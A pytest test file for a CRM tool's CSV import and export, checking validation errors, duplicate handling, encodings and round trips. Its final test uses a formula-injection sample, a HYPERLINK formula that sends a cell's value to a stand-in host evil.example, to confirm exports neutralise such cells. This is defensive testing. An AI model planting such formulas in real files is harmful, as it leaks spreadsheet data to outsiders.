"""CSV import: all or nothing, each rejected row named, a second import adds nothing;
an export imports back into an empty database as it was."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from crm_tui.domain.errors import PermissionDenied, ValidationError
from crm_tui.domain.records import Actor
from crm_tui.services import exchange, registers, setup, users
from tests.conftest import make_user, sqlite_url

REGISTERS = ("customers", "facilities", "service-objects")


def exported(actor: Actor, what: str) -> str:
    """A register as export_csv writes it."""
    out = io.StringIO()
    exchange.export_csv(actor, what, out)
    return out.getvalue()


def imported(actor: Actor, what: str, text: str, *,
             on_similar: str = "ask") -> exchange.ImportResult:
    """Import CSV text."""
    return exchange.import_csv(actor, what, io.StringIO(text), on_similar=on_similar)


def everything(actor: Actor) -> dict[str, str]:
    """Every register as exported (to show that a refused import changed nothing)."""
    return {what: exported(actor, what) for what in REGISTERS}


def test_an_import_is_all_or_nothing_and_names_each_rejected_row(admin: Actor) -> None:
    """One bad row (a name with a line break, an empty name, an extra or a missing
    field, an unknown customer) and nothing is imported; the error names each row by its
    line in the file, also after a field spanning two lines. Fixed, the same file
    imports whole."""
    registers.add_customer(admin, "Acme", number="1")
    before = everything(admin)
    bad = ('number,name,city\n'
           '5001,Öberg & Söner,Luleå\n'
           '5002,"Two\nlines",Umeå\n'
           '5003,,Nowhere\n'
           '5004,Extra,City,More\n'
           '5005,Short\n'
           '1,Not Acme,Lund\n')
    with pytest.raises(ValidationError) as refused:
        imported(admin, "customers", bad)
    message = str(refused.value)
    assert message.startswith("5 rows rejected, nothing imported: line 3: ")
    for expected in ("line 3: Customer contains a line break",
                     "line 5: Customer must not be empty",
                     "line 6: 4 fields where the header has 3",
                     "line 7: 2 fields where the header has 3",
                     "line 8: Customer number 1 is already taken by 'Acme'"):
        assert expected in message
    assert everything(admin) == before
    good = bad.replace("5003,,", "5003,Nobody AB,").replace(",More\n", "\n").replace(
        "5005,Short\n", "5005,Short,\n").replace("1,Not Acme", "1,ACME").replace(
        '"Two\nlines"', '"Two lines"')
    assert imported(admin, "customers", good) == exchange.ImportResult(
        added=5, skipped=1, differing=((7, "Acme (1)", ("name", "city")),))
    assert registers.find_customer("5002").name == "Two lines"
    with pytest.raises(ValidationError, match=r"1 row rejected.*line 2: No customer .*Ingen"):
        imported(admin, "facilities", "customer,name\nIngen Sådan,Depot\n")


def test_a_file_imported_twice_adds_nothing_the_second_time(admin: Actor) -> None:
    """Re-running an import (a script run again, a retried upload) used to add every
    facility and service object once more."""
    registers.add_customer(admin, "Brf Solrosen", number="10")
    files = {"customers": "number,name,city\n20,Åkesson AB,Malmö\n,Utan Nummer,Lund\n",
             "facilities": "customer_number,name,city,latitude,longitude\n"
                           "10,Depå Åre,Åre,63.4,13.1\n20,Kontor,Malmö,,\n",
             "service-objects": "customer_number,facility,name,serial_number\n"
                                "10,DEPÅ ÅRE,Ängsfläkt,SN-1\n20,,Pump,\n"}
    for what, text in files.items():
        first = imported(admin, what, text)
        assert (first.added, first.skipped) == (2, 0), what
    after_first = everything(admin)
    for what, text in files.items():
        assert imported(admin, what, text) == exchange.ImportResult(added=0, skipped=2)
    assert everything(admin) == after_first


def test_a_customer_already_there_with_other_columns_is_named_not_changed(
        admin: Actor) -> None:
    """An export edited and imported again (a city put right) said only "1 already
    there": the change was dropped without a word (QA17 M3). The rows whose columns
    are unlike the register's are named, with those columns; nothing changes."""
    registers.add_customer(admin, "Bergström Värme AB", number="1001", city="Stockholm",
                           address="Fabriksgatan 15")
    registers.add_customer(admin, "Åkesson AB", number="1002", city="Malmö")
    before = everything(admin)
    result = imported(admin, "customers", "number,name,address,city,phone\n"
                      "1001,BERGSTRÖM VÄRME AB,Newstreet 1,Uppsala,\n"
                      "1002,Åkesson AB,,Malmö,\n")
    assert (result.added, result.skipped) == (0, 2)
    assert result.differing == ((2, "Bergström Värme AB (1001)",
                                 ("name", "address", "city")),)
    assert everything(admin) == before


def test_a_file_s_own_rows_are_named_as_its_own(admin: Actor) -> None:
    """A row named like one above it in the same file was said to look like "existing
    'Nearnew Alpha AB (1224)'", a customer that was never imported; a row repeated in
    the file was counted "already there" (QA17 L2, L3)."""
    registers.add_customer(admin, "Acme")
    before = everything(admin)
    with pytest.raises(ValidationError, match="line 3: customer 'Nearnew Alpha' looks "
                                              "like 'Nearnew Alpha AB' of line 2 of this "
                                              "file"):
        imported(admin, "customers", "number,name\n,Nearnew Alpha AB\n,Nearnew Alpha\n")
    with pytest.raises(ValidationError, match="line 3: customer 'acme' looks like "
                                              "existing 'Acme"):
        imported(admin, "customers", "number,name\n,Nearnew Beta AB\n,acme\n")
    assert everything(admin) == before
    result = imported(admin, "customers",
                      "number,name,city\n,Dup AB,X\n,Other AB,Y\n,Dup AB,X\n,Dup AB,X\n")
    assert (result.added, result.skipped, result.repeated) == (2, 0, ((4, 2), (5, 2)))


def test_a_semicolon_file_imports_and_an_open_quote_is_named(admin: Actor) -> None:
    """A spreadsheet set to Swedish saves "CSV" with semicolons: its header was one
    unknown column. A quote not closed swallowed the rest and was called a field count
    (QA17 L4)."""
    result = imported(admin, "customers", "number;name;city\n9001;Semi AB;Lund\n"
                                          '9002;"Quoted; AB";Malmö\n')
    assert result.added == 2
    assert registers.find_customer("9002").name == "Quoted; AB"
    with pytest.raises(ValidationError, match='line 2: 2 fields where the header has 6 '
                                              r'\(is a quote " in it not closed\?\)'):
        imported(admin, "customers", "number,name,address,city,phone,email\n"
                                     '9008,"Unterminated AB,G,C,,\n')


def test_a_row_s_customer_number_and_name_must_agree(admin: Actor, tmp_path: Path) -> None:
    """A number and a name of two customers went to the number's without a word; an
    unknown number said "No customer named"; a Latin-1 file showed a codec error."""
    registers.add_customer(admin, "Bergström Värme AB", number="1001")
    with pytest.raises(ValidationError, match="line 2: Customer number 1001 is "
                                              "'Bergström Värme AB', not 'Åkesson'"):
        imported(admin, "facilities", "customer_number,customer,name\n1001,Åkesson,Depå\n")
    with pytest.raises(ValidationError, match="line 2: No customer number 9999"):
        imported(admin, "service-objects", "customer_number,name\n9999,Pump\n")
    assert imported(admin, "facilities",
                    "customer_number,customer,name\n1001,BERGSTRÖM VÄRME AB,Depå\n").added == 1
    latin = tmp_path / "latin.csv"
    latin.write_bytes("name\nÖberg AB\n".encode("latin-1"))
    with pytest.raises(ValidationError, match="is not UTF-8 text .* save it as CSV UTF-8"):
        exchange.import_csv(admin, "customers", latin)


def test_the_header_is_checked_before_any_row(admin: Actor) -> None:
    """A typo in a column name used to drop that column's values without a word."""
    cases = {"number,name,adress\n1,A,B\n": "unknown column(s): adress",
             "name,name\nA,B\n": "names name more than once",
             "number,city\n1,Lund\n": "lacks the column: name",
             '{"number": 1}\n': "unknown column(s)",
             "name,\nA,\n": "column 2 has no name",
             "": "empty",
             'name\n"unclosed\n': None,
             "\n\nname\nAfter blank lines\n": None}
    for text, words in cases.items():
        if words is None:  # a quote never closed: a field up to the end of the file
            assert imported(admin, "customers", text).added == 1
            continue
        with pytest.raises(ValidationError, match=words.replace("(", r"\(").replace(
                ")", r"\)")):
            imported(admin, "customers", text)
    with pytest.raises(ValidationError, match="customer_number or customer"):
        imported(admin, "facilities", "name,city\nDepot,Lund\n")
    with pytest.raises(ValidationError, match="both latitude and longitude"):
        imported(admin, "facilities", "customer,name,latitude\nunclosed,Depot,10\n")
    viewer = make_user(admin, "vera", "view")
    with pytest.raises(PermissionDenied):
        imported(viewer, "customers", "name\nX\n")


def test_an_export_imports_into_an_empty_database_as_it_was(sqlite_db: str,
                                                            tmp_path: Path) -> None:
    """Customers, facilities and service objects come back whole, also two customers
    whose names differ only in case and names with Å, Ä, Ö (43 of 599 service objects
    of the demo were lost: the export named customers by name only)."""
    admin = users.bootstrap_admin("eva")
    for number, name in (("1", "QA Test AB"), ("2", "qa test ab"), ("3", "Brf Solrosen")):
        registers.add_customer(admin, name, number=number, on_duplicate="create")
    registers.add_facility(admin, "Depå Åre", "3", city="Åre", latitude=63.4,
                           longitude=13.1)
    registers.add_facility(admin, "Plant", "2")
    registers.add_service_object(admin, "Ängsfläkt", customer="3", facility="Depå Åre",
                                 model="F2120", serial_number="SN-1")
    registers.add_service_object(admin, "Pump", customer="2", facility="Plant")
    registers.add_service_object(admin, "Loose", customer="1")
    files = everything(admin)
    setup.open_database(sqlite_url(tmp_path / "empty.db"))
    other = users.bootstrap_admin("eva")
    # The two customers named alike: the second is refused, naming the first ...
    with pytest.raises(ValidationError) as similar:
        imported(other, "customers", files["customers"])
    assert "nothing imported: line 3: customer 'qa test ab' looks like 'QA Test AB (1)' " \
        "of line 2 of this file" in str(similar.value)
    assert len(exported(other, "customers").splitlines()) == 1  # the header: none added
    for what in REGISTERS:  # ... unless similar names are allowed
        imported(other, what, files[what], on_similar="create")
    assert everything(other) == files


def test_cells_a_spreadsheet_would_run_are_exported_as_text(admin: Actor) -> None:
    """A customer named =HYPERLINK(...) ran as a formula in the spreadsheet that opened
    the export; such cells start with an apostrophe now, and the import takes it off."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    registers.add_customer(admin, evil, number="C-1", phone="+46 70 123 45 67",
                           city="@home")
    facility = registers.add_facility(admin, "-Depot", "C-1", latitude="-33.86",
                                      longitude="151.2")
    text = exported(admin, "customers")
    assert "'=HYPERLINK(" in text and ",'+46 70 123 45 67," in text and ",'@home," in text
    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")
    places = exported(admin, "facilities")
    assert ",'-Depot," in places and ",-33.86," in places  # a number stays a number
    # Imported again, every value is the one stored: nothing new is added.
    assert imported(admin, "customers", text) == exchange.ImportResult(added=0, skipped=1)
    assert imported(admin, "facilities", places) == exchange.ImportResult(added=0, skipped=1)
    assert registers.get_facility(admin, facility.id).name == "-Depot"
    assert registers.find_customer("C-1").name == evil
    # A value that starts with an apostrophe and a formula sign of its own keeps it.
    registers.add_customer(admin, "'+46 is the code", number="C-2")
    text = exported(admin, "customers")
    assert ",''+46 is the code," in text
    assert imported(admin, "customers", text) == exchange.ImportResult(added=0, skipped=2)
